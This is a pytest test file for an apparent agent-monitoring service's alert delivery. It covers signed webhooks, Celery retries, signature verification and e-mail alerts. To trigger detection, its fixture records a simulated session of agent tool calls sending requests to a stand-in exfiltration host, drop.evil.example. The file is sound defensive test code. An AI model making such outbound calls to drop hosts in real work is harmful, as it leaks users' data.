"""Alert delivery: a Slack-compatible webhook signed with HMAC-SHA256 to a real HTTP server,
retried by its Celery task with backoff and logged per attempt; e-mail through Django."""

from __future__ import annotations

import json
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from django.core import mail

from controlplane.celery import app as celery_app
from controlplane.detection.models import Alert, AlertDelivery
from controlplane.detection.services.delivery import DeliveryFailed, signature_header, verify_signature
from controlplane.detection.services.scanning import run_detection
from tests.detection.conftest import known_traffic

pytestmark = pytest.mark.django_db
SECRET = "whsec-test-0123456789"


class Receiver:
    """A webhook receiver on a free port that answers with the queued status codes."""

    def __init__(self, statuses: list[int]):
        self.statuses = list(statuses)
        self.requests: list[tuple[dict, bytes]] = []
        receiver = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):
                body = self.rfile.read(int(self.headers["Content-Length"]))
                receiver.requests.append((dict(self.headers), body))
                code = receiver.statuses.pop(0) if receiver.statuses else 200
                self.send_response(code)
                self.end_headers()
                self.wfile.write(b"ok" if code < 300 else b"try later")

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/hooks/warden"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def receiver(settings):
    made = []

    def make(statuses=()):
        hook = Receiver(statuses)
        made.append(hook)
        settings.WARDEN_DETECTION_WEBHOOK_URL = hook.url
        settings.WARDEN_DETECTION_WEBHOOK_SECRET = SECRET
        return hook

    yield make
    for hook in made:
        hook.close()


def raise_alert(signed_agent, ship, n=25):
    bot = signed_agent()
    ship(bot, bot.calls("normal", known_traffic(25)))
    run_detection()
    ship(bot, bot.calls("exfil", [("http_request", {"url": f"https://drop.evil.example/{i}"}) for i in range(n)]))
    run_detection()
    return Alert.objects.get()


def test_a_raised_alert_reaches_the_webhook_signed_and_slack_shaped(signed_agent, ship, receiver,
                                                                    django_capture_on_commit_callbacks):
    hook = receiver()
    with django_capture_on_commit_callbacks(execute=True):
        alert = raise_alert(signed_agent, ship)
    # Medium at 3 calls, critical at 20: each severity is notified once (with the alert as it is then).
    assert [h["X-Warden-Delivery"] for h, _ in hook.requests] == [f"alert-{alert.pk}-medium", f"alert-{alert.pk}-critical"]
    headers, body = hook.requests[-1]
    assert verify_signature(SECRET, body, headers["X-Warden-Signature"])
    document = json.loads(body)
    assert document["text"].startswith("[critical] invoice-bot made 20 calls")
    assert document["blocks"][0]["type"] == "section" and "drop.evil.example" in document["blocks"][0]["text"]["text"]
    assert document["warden"]["id"] == alert.pk and document["warden"]["session_ids"] == ["exfil"]
    assert list(AlertDelivery.objects.values_list("channel", "succeeded", "status_code")) == [
        ("webhook", True, 200), ("webhook", True, 200)]


def test_a_failing_receiver_is_retried_with_each_attempt_logged(signed_agent, ship, receiver):
    alert = raise_alert(signed_agent, ship)
    hook = receiver([503, 500])
    celery_app.loader.import_default_modules()
    task = celery_app.tasks["detection.deliver_webhook"]
    assert (task.retry_backoff, task.max_retries, task.autoretry_for) == (5, 8, (DeliveryFailed,))
    # Eager: each retry runs at once (no countdown); propagation off so the Retry is followed, not raised.
    propagates, celery_app.conf.task_eager_propagates = celery_app.conf.task_eager_propagates, False
    try:
        result = task.apply(args=(alert.pk, "critical"))
    finally:
        celery_app.conf.task_eager_propagates = propagates
    assert result.get() is True
    log = list(AlertDelivery.objects.filter(alert=alert).values_list("attempt", "succeeded", "status_code"))
    assert log == [(1, False, 503), (2, False, 500), (3, True, 200)]
    assert AlertDelivery.objects.get(attempt=1).error == "answered 503: try later"
    assert len({h["X-Warden-Delivery"] for h, _ in hook.requests}) == 1  # receivers can drop duplicates


def test_an_unreachable_receiver_is_logged_and_raises_for_a_retry(signed_agent, ship, settings):
    alert = raise_alert(signed_agent, ship)
    settings.WARDEN_DETECTION_WEBHOOK_URL = "http://127.0.0.1:9/closed"  # discard port: refused
    settings.WARDEN_DETECTION_WEBHOOK_TIMEOUT = 2.0
    from controlplane.detection.services.delivery import deliver_webhook

    with pytest.raises(DeliveryFailed):
        deliver_webhook(alert.pk, attempt=1)
    delivery = AlertDelivery.objects.get()
    assert not delivery.succeeded and delivery.status_code is None and "ConnectError" in delivery.error


def test_the_signature_fails_on_a_changed_body_a_wrong_secret_and_a_replay():
    body = b'{"text":"x"}'
    header = signature_header(SECRET, body)
    assert verify_signature(SECRET, body, header)
    assert not verify_signature(SECRET, body + b" ", header)
    assert not verify_signature("another-secret", body, header)
    assert not verify_signature(SECRET, body, header, now=time.time() + 3600)
    for garbage in ("", "t=abc,v1=00", "v1=00", "t=1", "\x00"):
        assert not verify_signature(SECRET, body, garbage)


def test_alerts_below_the_notify_severity_stay_in_the_inbox(signed_agent, ship, receiver, settings,
                                                           django_capture_on_commit_callbacks):
    settings.WARDEN_DETECTION_NOTIFY_SEVERITY = "critical"
    hook = receiver()
    with django_capture_on_commit_callbacks(execute=True):
        raise_alert(signed_agent, ship, n=5)  # medium only
    assert hook.requests == [] and not AlertDelivery.objects.exists()


def test_alerts_are_mailed_through_django_mail(signed_agent, ship, settings, django_capture_on_commit_callbacks):
    settings.WARDEN_DETECTION_ALERT_EMAILS = ("soc@example.com", "oncall@example.com")
    with django_capture_on_commit_callbacks(execute=True):
        alert = raise_alert(signed_agent, ship)
    assert len(mail.outbox) == 2
    message = mail.outbox[-1]
    assert message.to == ["soc@example.com", "oncall@example.com"]
    assert message.subject == "[Warden critical] Never-seen destination: invoice-bot"
    assert alert.summary in message.body and "Sessions: exfil" in message.body
    assert AlertDelivery.objects.filter(channel="email", succeeded=True).count() == 2
